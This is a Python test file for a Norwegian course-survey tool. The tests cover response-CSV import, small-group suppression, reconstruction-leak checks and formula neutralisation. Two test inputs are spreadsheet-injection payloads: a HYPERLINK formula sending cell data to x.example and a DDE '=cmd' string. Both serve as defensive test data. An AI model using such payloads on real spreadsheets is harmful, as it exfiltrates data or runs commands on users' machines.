"""Response exports in, suppressed aggregates out: bad rows named by line, no group under 5 published."""

from __future__ import annotations

import csv
import io
import random
import shutil
from datetime import date
from pathlib import Path

import pytest
import yaml

from build_tools.core.pages import env as pages_env
from build_tools.core.settings import Settings
from build_tools.kinds.courses import results
from build_tools.kinds.courses.pages import pages as render_courses
from build_tools.pipeline import load_site
from tests.conftest import FIXTURES, ROOT, TODAY
from tests.test_courses import course_project


@pytest.fixture
def project(tmp_path: Path, small_orphanet: Path) -> tuple[Path, object]:
    root = course_project(tmp_path, small_orphanet, "course_valid")
    site = load_site(Settings(root=root), TODAY)
    return root, next(c for c in site.courses if c.slug == "vinterkurs")


def export(tmp_path: Path, name: str = "vinterkurs.csv", text: str | None = None) -> Path:
    path = tmp_path / "svar" / name
    path.parent.mkdir(exist_ok=True)
    if text is None:
        shutil.copy(FIXTURES / "responses" / name, path)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def test_bad_rows_are_named_by_line_and_skipped(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    meta, problems = results.aggregate_responses(course, export(tmp_path), root)
    shown = [str(p).split(": ", 1)[1] for p in problems]
    assert shown == [
        "helhet: ugyldig svar 'elleve'; gyldige er 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 eller tomt; raden er hoppet over",
        "rolle: verdien '=HYPERLINK(\"http://x.example/?\"&A1)' ser ut som en regnearkformel; raden er hoppet over",
        "raden har 5 felt, men overskriften har 6; raden er hoppet over",
    ]
    assert [p.line for p in problems] == [6, 8, 9]  # the quoted answer over two lines counts as two
    assert all(p.severity == "warning" for p in problems)
    assert meta is not None and meta.respondenter == 6 and meta.hoppet_over == 3


def test_groups_under_five_are_suppressed_and_free_text_never_kept(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    meta, _ = results.aggregate_responses(course, export(tmp_path), root)
    by_id = {q.id: q for q in meta.spørsmål}
    assert "bra" not in by_id
    rolle = {c.verdi: c.antall for c in by_id["rolle"].fordeling}
    assert rolle == {"pasient": None, "parorende": None}  # 4 and 2: both hidden
    assert by_id["program_3"].besvart == 6
    for q in meta.spørsmål:
        for cell in q.fordeling or []:
            assert cell.antall is None or cell.antall == 0 or cell.antall >= 5
    written = results.write_aggregate(meta, root)
    assert "Fint" not in written.read_text(encoding="utf-8")


def test_one_hidden_cell_takes_a_second_with_it() -> None:
    assert results._suppress([10, 3, 7]) == [10, None, None]
    # Hiding the 0 would leave the hidden pair at 2 in all: a group under five. The 6 goes instead.
    assert results._suppress([10, 0, 2, 6]) == [10, 0, None, None]
    assert results._suppress([3, 2, 9]) == [None, None, 9]


def test_wrong_columns_stop_the_import(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    path = export(tmp_path, "feil.csv", "rolle,helhet,=cmd|' /C calc'!A0,anbefale\npasient,9,1,ja\n")
    meta, problems = results.aggregate_responses(course, path, root)
    assert meta is None
    assert str(problems[0]).endswith(
        "feil.csv:1: ukjente kolonner: \"=cmd|' /C calc'!A0\"; mangler kolonnene: program_1, program_3, bra; "
        "overskriften må ha nøyaktig spørsmålenes id-er i skjemaet «standard» versjon 1: rolle, helhet, program_1, program_3, anbefale, bra"
    )


def test_an_export_inside_the_repository_is_refused(project) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    inside = root / "svar.csv"
    shutil.copy(FIXTURES / "responses/vinterkurs.csv", inside)
    meta, problems = results.aggregate_responses(course, inside, root)
    assert meta is None and "ligger inne i depotet" in problems[0].message


def test_results_page_with_fewer_than_five_shows_no_numbers(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    path = export(tmp_path, "fa.csv", "rolle,helhet,program_1,program_3,anbefale,bra\n" + "pasient,9,5,5,ja,\n" * 4)
    meta, problems = results.aggregate_responses(course, path, root)
    assert problems == [] and meta.respondenter is None and meta.spørsmål == []
    results.write_aggregate(meta, root)
    settings = Settings(root=root)
    pages = render_courses(load_site(settings, TODAY), settings, date(2027, 2, 1))
    page = pages["kurs/vinterkurs/resultater/index.md"].decode("utf-8").split("---\n", 2)[2]
    assert "For få deltakere svarte" in page
    assert "<svg" not in page and "<table" not in page and "4" not in page.replace("(20. januar 2027)", "")


def test_a_hand_edited_small_count_cannot_be_published(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    meta, _ = results.aggregate_responses(course, export(tmp_path), root)
    path = results.write_aggregate(meta, root)
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["spørsmål"][0]["fordeling"][0]["antall"] = 3
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    _, problems = results.read_results(root)
    assert any("færre enn 5 svar kan ikke publiseres" in p.message for p in problems)


def test_published_csv_neutralises_formulas() -> None:
    assert results.csv_safe('=HYPERLINK("x")') == "'=HYPERLINK(\"x\")"
    assert results.csv_safe("@SUM(A1)") == "'@SUM(A1)" and results.csv_safe("Bra") == "Bra"


# --- no small count can be worked out from what is published (issue 13, point 6) -----------------


def feasible(cells: list[int | None], answered: int, values: list[str], mean: float | None) -> list[tuple[int, ...]]:
    """Every filling of the hidden cells that fits the published numbers: the answered count and,
    if given, the mean rounded to one decimal (numeric answers). Independent of results.py."""
    hidden = [i for i, c in enumerate(cells) if c is None]
    total = answered - sum(c for c in cells if c is not None)
    out = []

    def fill(k: int, left: int, acc: tuple[int, ...]) -> None:
        if k == len(hidden) - 1:
            candidates = [acc + (left,)]
        else:
            for x in range(left + 1):
                fill(k + 1, left - x, acc + (x,))
            return
        for choice in candidates:
            full = list(cells)
            for i, x in zip(hidden, choice, strict=True):
                full[i] = x
            if mean is not None:
                pairs = [(int(v), c) for v, c in zip(values, full, strict=True) if v.isdigit()]
                n = sum(c for _, c in pairs)
                if not n or round(sum(v * c for v, c in pairs) / n, 1) != mean:
                    continue
            out.append(choice)

    if hidden:
        fill(0, total, ())
    return out


def leaks(cells: list[int | None], answered: int, values: list[str], mean: float | None) -> list[str]:
    """Counts under five a reader can compute: a hidden cell with one possible value in 1–4, or a hidden total in 1–4."""
    hidden = [i for i, c in enumerate(cells) if c is None]
    if not hidden:
        return []
    found = []
    total = answered - sum(c for c in cells if c is not None)
    if 0 < total < results.MIN_GROUP:
        found.append(f"hidden total {total}")
    options = feasible(cells, answered, values, mean)
    for k, i in enumerate(hidden):
        possible = {o[k] for o in options}
        if len(possible) == 1 and 0 < next(iter(possible)) < results.MIN_GROUP:
            found.append(f"cell {i} is {next(iter(possible))}")
    return found


def question_leaks(cells: list[int | None], answered: int | None, respondents: int, values: list[str], mean: float | None) -> list[str]:
    """`leaks` for one question as published with the number of respondents: those who skipped the
    question (respondents − answered) are one more group, shown when the answered count is published,
    hidden when it is not. Skipped answers count in no mean (their value is not a number)."""
    skipped = None if answered is None else respondents - answered
    found = [f"skipped {skipped}"] if skipped is not None and 0 < skipped < results.MIN_GROUP else []
    return found + leaks([*cells, skipped], respondents, [*values, ""], mean)


def test_the_brute_force_finds_what_the_old_rule_gave_away() -> None:
    # The rule before issue 13 hid [10, 0, 2, 6] as [10, None, None, 6]: the two hidden cells are 2 together.
    assert leaks([10, None, None, 6], 18, ["a", "b", "c", "d"], None) == ["hidden total 2"]
    # Two hidden cells with a large enough total, but the mean pins them down.
    values = ["1", "2", "3"]
    assert leaks([None, None, 5], 10, values, round((1 * 1 + 2 * 4 + 3 * 5) / 10, 1)) == ["cell 0 is 1", "cell 1 is 4"]
    assert leaks([None, None, 5], 10, values, None) == []


def test_the_brute_force_derives_the_skipped_count() -> None:
    # 41 answered the evaluation, 40 the question: the one who skipped it is a group of one.
    assert question_leaks([15, 13, None, None], 40, 41, ["a", "b", "c", "d"], None) == ["skipped 1"]
    # Hiding the answered count is not enough when every answer is shown: 31 − 15 − 13 = 3 skipped.
    assert question_leaks([15, 13], None, 31, ["a", "b"], None) == ["hidden total 3", "cell 2 is 3"]
    assert question_leaks([15, None, None], None, 41, ["a", "b", "c"], None) == []


def test_no_small_count_can_be_computed_from_the_published_results() -> None:
    """Every results page and CSV of the real content (the PKU day and the others), checked by brute force."""
    settings = Settings(root=ROOT)
    site = load_site(settings, TODAY)
    checked = hidden = hidden_answered = 0
    for course in site.courses:
        if course.result is None or course.result.meta.respondenter is None:
            continue
        columns = {c.id: c for c in course.form.columns(course)}
        rows = list(csv.DictReader(io.StringIO(results.results_csv(course).decode("utf-8"))))
        for q in course.result.meta.spørsmål:
            if q.fordeling is None:
                continue
            published = [r for r in rows if r["sporsmal_id"] == q.id]
            cells = [int(r["antall"]) if r["antall"] else None for r in published]
            answered = int(published[0]["besvart"]) if published[0]["besvart"] else None
            respondents = course.result.meta.respondenter  # on the page: «41 deltakere svarte»
            mean = float(published[0]["gjennomsnitt"]) if published[0]["gjennomsnitt"] else None
            values = [r["svar"] for r in published]
            assert values == list(columns[q.id].values)
            assert question_leaks(cells, answered, respondents, values, mean) == [], (course.slug, q.id, cells, answered, respondents, mean)
            checked += 1
            hidden += cells.count(None) + (answered is None)
            hidden_answered += answered is None
    assert checked >= 10 and hidden > 0 and hidden_answered > 0
    pku = next(c for c in site.courses if c.slug == "fagdag-pku-kommune")
    page = results.render_results_page(pages_env(), pku)
    assert "færre enn 5</t" not in page and "skjult" in page
    # The page says no more than the CSV: no answered count the CSV hides, no share that gives it away.
    for q in pku.result.meta.spørsmål:
        if q.fordeling is not None and q.besvart is None:
            block = page.split(f'id="{q.id}-tittel"', 1)[1].split("</table>", 1)[0]
            assert " av " not in block and " %" not in block and "svar</figcaption>" not in block, q.id


@pytest.mark.parametrize("seed", range(20))
def test_suppression_of_random_distributions_gives_nothing_away(seed: int) -> None:
    rng = random.Random(seed)
    for _ in range(200):
        counts = [rng.choice([0, 0, 1, 2, 3, 4, 5, 6, 9, 14]) for _ in range(rng.randint(2, 6))]
        if sum(counts) < results.MIN_GROUP:
            continue
        cells = results._suppress(counts)
        assert all(c is None or c == n for c, n in zip(cells, counts, strict=True))
        assert all(c is None for c, n in zip(cells, counts, strict=True) if 0 < n < results.MIN_GROUP)
        assert leaks(cells, sum(counts), [str(i) for i in range(len(counts))], None) == [], counts


@pytest.mark.parametrize("seed", range(20))
def test_skipped_counts_of_random_questions_give_nothing_away(seed: int) -> None:
    rng = random.Random(1000 + seed)
    for _ in range(200):
        counts = [rng.choice([0, 0, 1, 2, 3, 4, 5, 6, 9, 14]) for _ in range(rng.randint(2, 6))]
        skipped = rng.choice([0, 0, 1, 2, 3, 4, 5, 7])
        if sum(counts) < results.MIN_GROUP:
            continue
        cells, answered = results.suppress_question(counts, skipped)
        assert all(c is None or c == n for c, n in zip(cells, counts, strict=True))
        assert answered is None or answered == sum(counts)
        values = [str(i) for i in range(len(counts))]
        assert question_leaks(cells, answered, sum(counts) + skipped, values, None) == [], (counts, skipped)


def test_a_hand_edited_file_that_gives_a_count_away_is_refused(tmp_path: Path) -> None:
    base = {"kurs": "k", "skjema": "s", "skjemaversjon": 1, "respondenter": 18}
    two_hidden_small = {"id": "q", "besvart": 18, "fordeling": [{"verdi": "a", "antall": 10}, {"verdi": "b", "antall": None}, {"verdi": "c", "antall": None}, {"verdi": "d", "antall": 6}]}
    with pytest.raises(ValueError, match="computable"):
        results.AggregateMeta.model_validate({**base, "spørsmål": [two_hidden_small]})
    with_mean = {"id": "q", "besvart": 18, "gjennomsnitt": 2.1, "fordeling": [{"verdi": "1", "antall": None}, {"verdi": "2", "antall": None}, {"verdi": "3", "antall": 10}]}
    with pytest.raises(ValueError, match="computable"):
        results.AggregateMeta.model_validate({**base, "spørsmål": [with_mean]})


def test_a_hand_edited_answered_count_that_gives_the_skipped_away_is_refused() -> None:
    base = {"kurs": "k", "skjema": "s", "skjemaversjon": 1, "respondenter": 41}
    one_skipped = {"id": "q", "besvart": 40, "fordeling": [{"verdi": "a", "antall": 15}, {"verdi": "b", "antall": 25}]}
    with pytest.raises(ValueError, match="small_group"):
        results.AggregateMeta.model_validate({**base, "spørsmål": [one_skipped]})
    hidden_but_summed = {"id": "q", "besvart": None, "fordeling": [{"verdi": "a", "antall": 15}, {"verdi": "b", "antall": 25}]}
    with pytest.raises(ValueError, match="computable"):
        results.AggregateMeta.model_validate({**base, "spørsmål": [hidden_but_summed]})
    hidden = {"id": "q", "besvart": None, "fordeling": [{"verdi": "a", "antall": 15}, {"verdi": "b", "antall": None}]}
    assert results.AggregateMeta.model_validate({**base, "spørsmål": [hidden]}).spørsmål[0].besvart is None


def test_a_small_number_of_unreadable_rows_is_not_published(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    meta, _ = results.aggregate_responses(course, export(tmp_path), root)
    assert meta.hoppet_over == 3
    results.write_aggregate(meta, root)
    settings = Settings(root=root)
    pages = render_courses(load_site(settings, TODAY), settings, date(2027, 2, 1))
    page = pages["kurs/vinterkurs/resultater/index.md"].decode("utf-8")
    assert "Noen få svar kunne ikke leses" in page and "3 svar kunne ikke leses" not in page
